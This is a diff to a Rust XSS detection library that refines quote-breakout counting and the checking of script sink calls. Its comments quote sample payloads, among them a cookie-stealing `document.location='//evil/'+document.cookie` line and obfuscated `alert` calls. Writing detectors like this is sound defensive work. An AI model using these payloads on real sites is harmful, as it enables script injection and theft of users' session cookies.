@@ -282,6 +282,8 @@ pub fn string_breakout(s: &str) -> bool {
     let n_delimiters = attribute_delimiters(b, &mut delimiters);
     let delimiters = &delimiters[..n_delimiters];
     let mut tried = 0;
+    // quotes of each kind (`'`, `"`, backtick) seen so far
+    let mut seen = [0usize; 3];
     let mut i = 0;
     while i < b.len() && tried < MAX_QUOTES {
         let Some(q) = memchr::memchr3(b'\'', b'"', b'`', &b[i..]) else {
@@ -289,6 +291,19 @@ pub fn string_breakout(s: &str) -> bool {
         };
         i += q + 1;
         if delimiters.binary_search(&(i - 1)).is_ok() {
+            continue;
+        }
+        // Reflected inside a string, the value's first quote of that kind ends the page's
+        // string, the second opens a new one, and so on: only odd-numbered quotes lead into
+        // code. After an even one (`['one,two']):`, `f("a", "b")`) the text is back inside
+        // a string, as in code samples whose quotes pair up.
+        let k = match b[i - 1] {
+            b'\'' => 0,
+            b'"' => 1,
+            _ => 2,
+        };
+        seen[k] += 1;
+        if seen[k] % 2 == 0 {
             continue;
         }
         tried += 1;
@@ -759,19 +774,46 @@ fn code_mentions_sink(b: &[u8]) -> bool {
 /// The value is itself a script call through a sink: `alert(1)`, `alert`1``,
 /// `document.location='//evil/'+document.cookie`, `top['al'+'ert'](1)`.
 pub fn sink_call(s: &str) -> bool {
-    let t = s.trim_start_matches(|c: char| {
-        c.is_ascii_whitespace()
-            || matches!(c, ';' | '(' | '+' | '-' | '!' | '~' | '*' | '|' | '&' | ',')
-    });
-    let b = t.as_bytes();
+    let t = trim_statement_start(s.as_bytes());
     // `A=alert;A(1)`, `(alert)(1)`, `[1].find(alert)`, `a{b:`…alert(1)…`}`: a sink
     // called, bound or passed in code (the value has code punctuation around it)
     let code_like = code_punctuation(s.as_bytes())
         // `with(location)with(hash)eval(…)`: a call right after a parenthesis
-        || memchr::memchr_iter(b')', b).any(|p| b.get(p + 1).is_some_and(|&c| is_ident_start(c)));
+        || memchr::memchr_iter(b')', t).any(|p| t.get(p + 1).is_some_and(|&c| is_ident_start(c)));
     if code_like && names_direct_sink(s.as_bytes()) && code_mentions_sink(s.as_bytes()) {
         return true;
     }
+    if statement_acts(t) {
+        return true;
+    }
+    // a later statement of a script the value is (`x=…;document.body.appendChild(x)`)
+    // outside the bodies of functions it defines but never calls, as in code samples
+    memchr::memchr_iter(b';', t)
+        .take(MAX_STATEMENTS)
+        .any(|p| statement_acts(trim_statement_start(&t[p + 1..])) && !in_uninvoked_function(t, p))
+}
+
+/// Statements after `;` examined by [`sink_call`].
+const MAX_STATEMENTS: usize = 16;
+
+/// `b` without the spaces and unary or separator punctuation that may precede an expression.
+fn trim_statement_start(b: &[u8]) -> &[u8] {
+    let n = b
+        .iter()
+        .take_while(|&&c| {
+            c.is_ascii_whitespace()
+                || matches!(
+                    c,
+                    b';' | b'(' | b'+' | b'-' | b'!' | b'~' | b'*' | b'|' | b'&' | b','
+                )
+        })
+        .count();
+    &b[n..]
+}
+
+/// Whether the expression at the start of `b` calls or assigns through a sink:
+/// `alert(1)`, `document.location='//x'`, `top['al'+'ert'](1)`.
+fn statement_acts(b: &[u8]) -> bool {
     let Some((any_sink, direct, member, e)) = chain(b, 0) else {
         return false;
     };
